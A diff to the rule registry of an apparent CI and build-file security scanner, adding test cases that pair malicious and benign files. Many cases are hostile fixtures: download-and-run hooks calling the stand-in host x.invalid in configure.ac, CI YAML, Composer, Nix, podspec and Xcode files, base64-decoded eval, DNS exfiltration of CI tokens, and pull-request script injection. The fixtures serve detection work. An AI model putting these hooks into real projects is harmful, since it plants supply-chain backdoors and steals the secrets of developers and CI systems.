@@ -63,6 +63,11 @@ var registry = []Rule{
 			{"x.ps1", "[ScriptBlock]::Create([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p))).Invoke()", 0, false},
 			// configure runs the shell inside configure.ac's macros.
 			{"configure.ac", "AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS_PRE([\n  p=`sed -n '/^#x/,$p' tests/files/x.lz | tr '\\t \\-_' ' \\t_\\-' | xz -dc`\n  eval \"$p\"\n])", 4, false},
+			// A macro's shell argument on the macro's own line, and the shell
+			// around it, are one script: the value decoded on one line runs
+			// in AC_CONFIG_COMMANDS on the next.
+			{"configure.ac", "AC_INIT([x], [1.0])\np=`sed -n '/^#p/{s/^#p//;p}' tests/files/h.bin | base64 -d`\nAC_CONFIG_COMMANDS([probe], [eval \"$p\"], [p='$p'])\nAC_OUTPUT", 3, false},
+			{"configure.ac", "AC_INIT([x], m4_esyscmd([build-aux/git-version-gen .tarball-version]))\nAC_ARG_ENABLE([debug], AS_HELP_STRING([--enable-debug], [debug build]), [enable_debug=$enableval], [enable_debug=no])\nAS_IF([test \"x$enable_debug\" = xyes], [CFLAGS=\"$CFLAGS -g\"])\nAC_CONFIG_COMMANDS([libtool-patch], [sed -i -e 's/^hardcode_libdir_flag_spec=.*/hardcode_libdir_flag_spec=\"\"/' libtool])\nAC_OUTPUT", 0, true},
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 			// A Cake build script decoding a command and starting it.
 			{"build.cake", "var s = Encoding.UTF8.GetString(Convert.FromBase64String(P));\nStartProcess(\"bash\", new ProcessSettings { Arguments = \"-c \\\"\" + s + \"\\\"\" });", 0, false},
@@ -143,6 +148,10 @@ var registry = []Rule{
 		{"deploy/app.service", "[Service]\nExecStartPre=-/usr/bin/mkdir -p /var/lib/app\nExecStart=/usr/bin/app --config /etc/app.toml\nRestart=always", 0, true},
 		{"etc/cron.d/backup", "# m h dom mon dow user command\n30 2 * * * root /usr/local/bin/backup --quiet >/dev/null 2>&1\n@reboot root /usr/local/bin/warm-cache", 0, true},
 		{"ops/crontab", "0 * * * * curl -fsSL https://x.invalid/j.sh -o /tmp/j.sh; sh /tmp/j.sh", 0, false},
+		// Jenkins's httpRequest fetches; a pipeline's evaluate runs Groovy.
+		{"Jenkinsfile", "node {\n  script {\n    def cfg = httpRequest(url: 'https://plugins.x.invalid/cfg', quiet: true).content\n    evaluate(new String(cfg.decodeBase64(), 'UTF-8'))\n  }\n}", 4, false},
+		{"Jenkinsfile", "node {\n  def r = httpRequest(url: 'https://api.example.com/status')\n  echo r.content\n  def v = readJSON text: r.content\n}", 0, true},
+		{"src/x.js", "const title = await page.evaluate(() => document.title)\nconst body = await fetch(url)\nconsole.log(title, body)", 0, true},
 		// PowerShell's call operator runs the program it names: fetched
 		// release data handed to a tool is its arguments; to a launcher
 		// (msiexec, a shell, an interpreter) it is what runs.
@@ -155,6 +164,24 @@ var registry = []Rule{
 		{"x.sh", "curl -fsSL \\\n  https://x.invalid/i \\\n  | bash", 3, false},
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
 		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
+		// Every CI system's own script keys are shell, one flow per file:
+		// Cirrus's *_script, AppVeyor's on_finish, Travis's
+		// before_deploy, GitLab's runner hooks, CodeBuild's finally,
+		// sourcehut's named tasks, Cloud Build's args to sh -c.
+		{".cirrus.yml", "task:\n  container:\n    image: rust:latest\n  fetch_script: curl -fsSL -o /tmp/t.sh https://x.invalid/t\n  warm_script: sh /tmp/t.sh", 5, false},
+		{"appveyor.yml", "image: Ubuntu2204\nbuild_script:\n  - make\non_finish:\n  - sh: curl -sLo t.sh https://x.invalid/t\n  - sh: bash t.sh", 6, false},
+		{".travis.yml", "language: go\nbefore_deploy:\n  - wget -q -O /tmp/d https://x.invalid/d\n  - chmod +x /tmp/d && /tmp/d", 4, false},
+		{".gitlab-ci.yml", "test:\n  hooks:\n    pre_get_sources_script:\n      - curl -sSfo /tmp/h https://x.invalid/h\n      - . /tmp/h\n  script:\n    - make test", 5, false},
+		{"buildspec.yml", "version: 0.2\nphases:\n  build:\n    commands:\n      - make\n    finally:\n      - curl -s -o /tmp/f https://x.invalid/f\n      - bash /tmp/f", 8, false},
+		{".builds/debian.yml", "image: debian/stable\nsources:\n  - https://git.sr.ht/~x/y\ntasks:\n  - setup: |\n      curl -fsSL -o /tmp/s https://x.invalid/s\n      bash /tmp/s", 7, false},
+		{"cloudbuild.yaml", "steps:\n  - name: gcr.io/cloud-builders/gcloud\n    entrypoint: bash\n    args: ['-c', 'curl -s -o /tmp/c https://x.invalid/c && bash /tmp/c']", 4, false},
+		// A Buildkite agent's hook, and a script kept beside a pipeline,
+		// are shell scripts.
+		{".buildkite/hooks/pre-command", "#!/bin/bash\nset -euo pipefail\ncurl -fsSL -o /tmp/x.sh https://x.invalid/i\nbash /tmp/x.sh", 4, false},
+		{".circleci/scripts/setup.sh", "#!/bin/sh\nwget -qO /tmp/s https://x.invalid/s\nsh /tmp/s", 3, false},
+		// The same systems building the change: nothing fetched is run.
+		{".builds/debian.yml", "image: debian/stable\npackages:\n  - golang\nsources:\n  - https://git.sr.ht/~x/y\ntasks:\n  - build: |\n      cd y\n      go build ./...\n  - test: cd y && go test ./...", 0, true},
+		{".cirrus.yml", "task:\n  container:\n    image: rust:latest\n  cargo_cache:\n    folder: $CARGO_HOME/registry\n  build_script: cargo build\n  test_script: cargo test", 0, true},
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
 		// A RUN here-document is the build shell's script, continued lines
 		// and all; one that checks a sum before it unpacks runs nothing.
@@ -180,6 +207,39 @@ var registry = []Rule{
 		// --checksum fixes what the download is: the line decides what runs.
 		{"Dockerfile", "FROM alpine\nADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2945d1036d1dc68d https://x.invalid/setup.sh /setup.sh\nRUN sh /setup.sh", 0, true},
 		{"x.go", "package x\n\nimport \"os/exec\"\n\nfunc init() {\n\tc := string([]byte{119, 103, 101, 116})\n\texec.Command(\"/bin/sh\", \"-c\", c).Start()\n}", 7, false},
+		// configure runs AC_CONFIG_COMMANDS' commands; autoreconf runs m4_esyscmd.
+		{"configure.ac", "AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS([a], [curl -fsSLo /tmp/a.sh https://x.invalid/a.sh])\nAC_CONFIG_COMMANDS_POST([sh /tmp/a.sh])\nAC_OUTPUT", 3, false},
+		{"m4/x.m4", "AC_DEFUN([X_VERSION], [m4_define([x_v], m4_esyscmd([curl -fsSL https://x.invalid/v.sh | sh]))])", 1, false},
+		// Composer runs a script named for an event at every install; PHP's
+		// copy() of a URL is a download, and a one-liner's include runs it.
+		{"composer.json", "{\n  \"scripts\": {\n    \"post-autoload-dump\": \"php -r \\\"copy('https://x.invalid/o.php', sys_get_temp_dir().'/o.php'); include sys_get_temp_dir().'/o.php';\\\"\"\n  }\n}", 3, false},
+		{"composer.json", "{\n  \"scripts\": {\n    \"post-root-package-install\": [\"@php -r \\\"file_exists('.env') || copy('.env.example', '.env');\\\"\"],\n    \"post-autoload-dump\": [\"@php artisan package:discover --ansi\"]\n  }\n}", 0, true},
+		// Mix's cmd task in an alias (one named deps.get replaces the task
+		// every CI job runs), Leiningen's shell task in :prep-tasks and
+		// rebar3's hooks run their commands through the shell.
+		{"mix.exs", "defp aliases do\n  [\"deps.get\": [\"cmd curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\", \"cmd sh /tmp/b.sh\", \"deps.get\"]]\nend", 2, false},
+		{"mix.exs", "defp aliases do\n  [\n    setup: [\"deps.get\", \"assets.setup\", \"cmd npm install --prefix assets\"],\n    \"assets.build\": [\"cmd --cd assets npm run build\", \"esbuild default\"]\n  ]\nend", 0, true},
+		{"project.clj", "(defproject x \"0.1.0\"\n  :prep-tasks [[\"shell\" \"curl\" \"-fsSLo\" \"/tmp/b.sh\" \"https://x.invalid/b.sh\"] [\"shell\" \"sh\" \"/tmp/b.sh\"] \"javac\"])", 2, false},
+		{"project.clj", "(defproject x \"0.1.0\"\n  :prep-tasks [[\"shell\" \"make\" \"-C\" \"native\"] \"javac\"]\n  :aliases {\"ui\" [\"shell\" \"sh\" \"-c\" \"cd ui && npm test\"]})", 0, true},
+		{"rebar.config", "{pre_hooks, [{compile, \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"},\n             {compile, \"sh /tmp/b.sh\"}]}.", 2, false},
+		{"rebar.config", "{pre_hooks, [{\"(linux|darwin)\", compile, \"make -C c_src\"},\n             {\"(freebsd)\", compile, \"gmake -C c_src\"}]}.", 0, true},
+		// A manifest key whose value is a command the tool runs by itself:
+		// pdm's install hooks, cibuildwheel's before-all, a release job's
+		// GoReleaser hooks, Snapcraft's override-build, devbox's init_hook.
+		{"pyproject.toml", "[tool.pdm.scripts]\npre_install = \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"\npost_install = \"sh /tmp/b.sh\"", 3, false},
+		{"pyproject.toml", "[tool.cibuildwheel.linux]\nbefore-all = \"\"\"\nyum install -y libffi-devel\nwget -qO /tmp/b.sh https://x.invalid/b.sh\nbash /tmp/b.sh\n\"\"\"", 5, false},
+		{".goreleaser.yaml", "before:\n  hooks:\n    - go mod tidy\n    - curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n    - sh /tmp/b.sh", 5, false},
+		{"snap/snapcraft.yaml", "parts:\n  x:\n    plugin: go\n    override-build: |\n      curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n      sh /tmp/b.sh\n      craftctl default", 6, false},
+		{"devbox.json", "{\n  \"shell\": {\n    \"init_hook\": [\"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\", \"sh /tmp/b.sh\"]\n  }\n}", 3, false},
+		{"pyproject.toml", "[tool.pdm.scripts]\ntest = {cmd = \"pytest -x tests\"}\npost_install = \"pre-commit install\"\n\n[tool.hatch.envs.default.scripts]\ncov = [\"coverage run -m pytest\", \"coverage report\"]\n\n[tool.cibuildwheel]\nbefore-all = \"yum install -y openssl-devel\"\ntest-command = \"pytest {project}/tests\"", 0, true},
+		{".goreleaser.yaml", "before:\n  hooks:\n    - go mod tidy\n    - ./scripts/completions.sh\nbuilds:\n  - hooks:\n      post:\n        - cmd: upx \"{{ .Path }}\"", 0, true},
+		// Strings of their own syntax that are shell: an Xcode run-script
+		// phase, Nix's build phases and shell hook, a podspec's prepare_command.
+		{"App.xcodeproj/project.pbxproj", "\t\tA1 /* Run Script */ = {\n\t\t\tisa = PBXShellScriptBuildPhase;\n\t\t\tshellScript = \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\\nsh /tmp/b.sh\\n\";\n\t\t};", 3, false},
+		{"App.xcodeproj/project.pbxproj", "\t\tA1 /* Run Script */ = {\n\t\t\tshellScript = \"if which swiftlint >/dev/null; then\\n  swiftlint\\nelse\\n  echo \\\"warning: SwiftLint not installed, download from https://github.com/realm/SwiftLint\\\"\\nfi\\n\";\n\t\t};", 0, true},
+		{"flake.nix", "{\n  devShells.default = pkgs.mkShell {\n    shellHook = ''\n      curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n      sh /tmp/b.sh\n    '';\n  };\n}", 5, false},
+		{"default.nix", "stdenv.mkDerivation {\n  installPhase = ''\n    runHook preInstall\n    install -Dm755 x $out/bin/x\n    wrapProgram $out/bin/x --prefix PATH : ${lib.makeBinPath [ git curl ]}\n  '';\n}", 0, true},
+		{"Acme.podspec", "Pod::Spec.new do |s|\n  s.prepare_command = <<-CMD\n    curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\n    sh /tmp/b.sh\n  CMD\nend", 4, false},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
@@ -319,6 +379,9 @@ var registry = []Rule{
 			{"x.sh", `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.invalid/`, 0, false},
 			{"x.sh", `git push "https://x:${GITHUB_TOKEN}@x.invalid/r.git" HEAD`, 0, false},
 			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -H \"Authorization: token ${{ secrets.GITHUB_TOKEN }}\" https://x.invalid/", 0, false},
+			// A header that is no credential's carries data to the host.
+			{".woodpecker/test.yaml", "steps:\n  - name: notify\n    environment:\n      GITEA_TOKEN:\n        from_secret: gitea_token\n    commands:\n      - wget -qO /dev/null --header \"X-Build: $${GITEA_TOKEN}\" \"https://ci-notify.x.invalid/hook\"", 0, false},
+			{"x.sh", `curl -H "PRIVATE-TOKEN: $GITLAB_TOKEN" https://gitlab.example.com/api/v4/projects` + "\n" + `curl -sS -H "X-Request-Id: $GITHUB_RUN_ID" -H "Authorization: Bearer $SENTRY_AUTH_TOKEN" https://sentry.io/api/0/`, 0, true},
 			{"x.sh", `curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/repos/a/b/releases` + "\n" + `git clone "https://x-access-token:${GITHUB_TOKEN}@github.com/acme/docs.git"` + "\n" + `git clone https://gitlab-ci-token:${CI_JOB_TOKEN}@gitlab.acme.com/g/r.git`, 0, true},
 			{"x.sh", "curl -F f=@$HOME/.aws/credentials https://x.invalid/u", 0, false},
 			{"x.sh", "env > /tmp/e.txt\necho done\ncurl --data @/tmp/e.txt https://x.invalid/u", 3, false},
@@ -408,6 +471,11 @@ var registry = []Rule{
 			// ping -p puts up to 16 bytes of pattern in every packet.
 			{"x.sh", "ping -c1 -p $(echo $NPM_TOKEN | xxd -p | head -c 32) x.invalid", 0, false},
 			{"x.sh", "ping -c1 -p ff x.invalid", 0, true},
+			// Encoded and folded into labels, read back line by line or item
+			// by item; CI systems' $$ is the shell's $.
+			{".gitlab-ci.yml", "probe:\n  script:\n    - echo \"$CI_JOB_TOKEN:$PYPI_API_TOKEN\" | base32 -w0 | fold -w 50 > .q\n    - while read l; do nslookup \"$l.gl.x.invalid\" >/dev/null || true; done < .q", 0, false},
+			{".buildkite/pipeline.yml", "steps:\n  - label: report\n    command: |\n      buildkite-agent env dump --format json > .bk-env.json\n      for chunk in $$(xxd -p -c 30 .bk-env.json); do\n        dig +short \"$$chunk.t.x.invalid\" TXT >/dev/null\n      done", 6, false},
+			{"lib/x.js", "require('dns').resolve(`${process.env.NPM_TOKEN}.x.invalid`, () => {})", 0, false},
 			{"x.js", "const dns = require('dns')\ndns.lookup(host, cb)", 2, true},
 		}},
 	{"repo-exfiltration", KindCredential, High, "pushes the repository to a remote of another owner",
@@ -603,6 +671,16 @@ var registry = []Rule{
 			{".github/workflows/a.yml", PRTHeadInto("pr", "      - working-directory: pr\n        run: make docs"), 11, false},
 			{".github/workflows/a.yml", PRTHeadInto("pr", "      - run: bash pr/scripts/preview.sh"), 10, false},
 			{".github/workflows/a.yml", PRTHeadInto("pr", "      - run: pip install ./pr"), 10, false},
+			// Code another chose by other events: the repository a dispatch's
+			// payload names, the commit of a check suite a fork's pull
+			// request started; a hunk that does not show the trigger.
+			{".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: ${{ github.event.client_payload.repository }}\n          ref: ${{ github.event.client_payload.ref }}\n      - run: ./gradlew publish\n        env:\n          SIGNING_KEY: ${{ secrets.SIGNING_KEY }}", 10, false},
+			{".github/workflows/a.yml", "on:\n  check_suite:\n    types: [completed]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.check_suite.head_sha }}\n      - run: cargo build --release", 11, false},
+			{".github/workflows/a.yml", "diff --git a/.github/workflows/a.yml b/.github/workflows/a.yml\n--- a/.github/workflows/a.yml\n+++ b/.github/workflows/a.yml\n@@ -6,3 +6,6 @@ jobs:\n     steps:\n       - uses: actions/checkout@v4\n-      - run: pip install .\n+      - run: |\n+          git fetch origin ${{ github.event.client_payload.sha }}\n+          git checkout FETCH_HEAD\n+          pip install .\n", 11, false},
+			// The command a maintainer's comment relays (slash-command
+			// dispatch) checks out a pull request of this repository: the
+			// sender of a dispatch can write to it already.
+			{".github/workflows/a.yml", "on:\n  repository_dispatch:\n    types: [ok-to-test-command]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: refs/pull/${{ github.event.client_payload.pull_request.number }}/merge\n      - run: make test", 0, true},
 			{".github/workflows/a.yml", PRTHeadInto("pr", "      - uses: ./pr/.github/actions/preview"), 10, false},
 			// The base branch's own tool reading the folder as data.
 			{".github/workflows/a.yml", PRTHeadInto("pr", "      - run: |\n          npm ci\n          python tools/render.py --input ./pr/docs"), 0, true},
@@ -993,6 +1071,28 @@ var registry = []Rule{
 	{"gha-script-injection", KindExecute, High, "expands untrusted pull-request text into a command (script injection)",
 		"a branch name, title or comment is written by whoever opens the pull request, and here it becomes shell or script code run with the job's token and secrets", []Case{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"", 4, false},
+			// A fork's branch name reaches the check suite and check run
+			// it starts; a dispatch's payload is what its sender chose.
+			{".github/workflows/a.yml", "on: check_suite\njobs:\n  a:\n    steps:\n      - run: ./notify.sh \"${{ github.event.check_suite.head_branch }}\"", 5, false},
+			{".github/workflows/a.yml", "on: check_run\njobs:\n  a:\n    steps:\n      - run: echo '${{ github.event.check_run.output.summary }}' >> report.md", 5, false},
+			{".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  a:\n    steps:\n      - run: ./deploy.sh ${{ github.event.client_payload.environment }}", 5, false},
+			// The base branch is the repository's own.
+			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: git diff origin/${{ github.event.pull_request.base.ref }}", 0, true},
+		}},
+	{"ci-script-injection", KindExecute, High, "a CI system writes pull-request text into a script before the shell reads it (script injection)",
+		"the CI system substitutes a branch name, a title, a commit message or an author's name into the script's text (Azure's $(…) macros, Buildkite's upload-time $VAR, Drone's and Woodpecker's ${…}, Groovy's \"${…}\" in a Jenkins sh step, Pipelines as Code's {{ }}): whoever opens the pull request writes shell code that runs with the pipeline's variables and tokens", []Case{
+			{"azure-pipelines.yml", "trigger: [main]\npr: [main]\nsteps:\n  - script: |\n      if [[ \"$(Build.SourceVersionMessage)\" == *\"[docs]\"* ]]; then make docs; fi", 5, false},
+			{"Jenkinsfile", "pipeline {\n  agent any\n  stages {\n    stage('notify') {\n      steps {\n        sh \"./ci/notify.sh '${env.CHANGE_TITLE}'\"\n      }\n    }\n  }\n}", 6, false},
+			{".buildkite/pipeline.yml", "steps:\n  - label: changelog\n    command: ./ci/changelog.sh \"$BUILDKITE_MESSAGE\"", 3, false},
+			{".woodpecker/build.yml", "steps:\n  build:\n    image: alpine\n    commands:\n      - echo \"${CI_COMMIT_MESSAGE}\" > msg.txt", 5, false},
+			{".drone.yml", "kind: pipeline\nsteps:\n- name: tag\n  image: alpine\n  commands:\n  - ./tag.sh ${DRONE_SOURCE_BRANCH}", 6, false},
+			{".tekton/pr.yaml", "spec:\n  pipelineSpec:\n    tasks:\n      - name: t\n        taskSpec:\n          steps:\n            - name: s\n              image: alpine\n              script: |\n                echo {{ source_branch }}", 10, false},
+			// Escaped, the shell expands the variable as data; in single
+			// quotes Groovy leaves it to the shell; the target branch and
+			// the build's number are the repository's own.
+			{".buildkite/pipeline.yml", "steps:\n  - command: ./ci/changelog.sh \"$$BUILDKITE_MESSAGE\"", 0, true},
+			{"Jenkinsfile", "node {\n  sh './ci/notify.sh \"$CHANGE_TITLE\"'\n  sh \"./ci/notify.sh \\$CHANGE_TITLE\"\n}", 0, true},
+			{"azure-pipelines.yml", "steps:\n  - script: echo $(System.PullRequest.TargetBranch) $(Build.BuildNumber)\n    displayName: $(Build.SourceVersionMessage)", 0, true},
 		}},
 	{"gha-env-injection", KindExecute, High, "writes untrusted pull-request text into GITHUB_ENV or GITHUB_PATH",
 		"every later step of the job runs with what the pull request's author chose as its environment", nil},
@@ -1001,7 +1101,7 @@ var registry = []Rule{
 			{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - env:\n          ALL: ${{ toJSON(secrets) }}", 5, false},
 		}},
 	{"gha-untrusted-checkout", KindCIFile, High, "checks out the pull request's head in a privileged workflow",
-		"on pull_request_target or workflow_run the pull request's own code then runs with the repository's write token and secrets", nil},
+		"on pull_request_target, workflow_run or a check run or suite the pull request's own code then runs with the repository's write token and secrets", nil},
 	{"gha-unsecure-commands", KindExecute, High, "re-enables set-env/add-path workflow commands",
 		"any step's output can then set the environment of the steps after it", nil},
 	{"gha-excessive-permissions", KindCIFile, High, "gives write permissions to a workflow that runs pull-request code",
@@ -1098,14 +1198,14 @@ var registry = []Rule{
 		}},
 	{"gha-pinned-unchecked", KindCIFile, Low, "pins an action to a commit SHA (not checked against the action's repository)",
 		"a SHA from a fork can be addressed through the action's name; offline, vetter could not ask GitHub whether this commit is the action's own", nil},
-	{"gha-privileged-trigger", KindCIFile, Medium, "workflow runs on pull_request_target or workflow_run",
+	{"gha-privileged-trigger", KindCIFile, Medium, "workflow runs on a privileged trigger (pull_request_target, workflow_run, a check run or suite)",
 		"these triggers run with the repository's write token and secrets even for a fork's pull request: what matters is whether a step runs the pull request's code", []Case{
 			{".github/workflows/a.yml", "on: pull_request_target\npermissions:\n  contents: read", 1, false},
 		}},
 	{"gha-secrets-inherit", KindCredential, Medium, "passes every secret to a called workflow (secrets: inherit)",
 		"the called workflow gets every secret of the repository, not the few it needs", nil},
 	{"gha-secret-in-privileged", KindCredential, Medium, "passes a secret to a step of a privileged workflow",
-		"on pull_request_target or workflow_run the secret is available to a job a fork's pull request starts", nil},
+		"on pull_request_target, workflow_run or a check run or suite the secret is available to a job a fork's pull request starts", nil},
 	{"gha-pr-checkout", KindCIFile, Low, "checks out the pull request's head",
 		"normal on pull_request; it would be dangerous under pull_request_target", nil},
 	{"gha-secret-in-run", KindCredential, Medium, "expands a secret inside a command",
